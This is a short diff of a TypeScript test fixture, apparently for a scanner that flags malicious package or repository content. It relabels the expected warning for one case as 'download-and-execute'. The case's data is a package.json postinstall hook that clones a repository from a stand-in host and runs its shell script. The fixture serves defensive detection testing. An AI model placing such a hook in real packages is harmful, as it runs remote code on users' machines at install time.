@@ -45,7 +45,7 @@ const MALICIOUS: readonly (readonly [string, string, string, string])[] = [
     'another repository',
     'package.json',
     pack({ scripts: { postinstall: 'git clone -q https://git.example/a/b .x && sh .x/run.sh' } }),
-    'warn install-script',
+    'warn download-and-execute',
   ],
   [
     'a cron job',
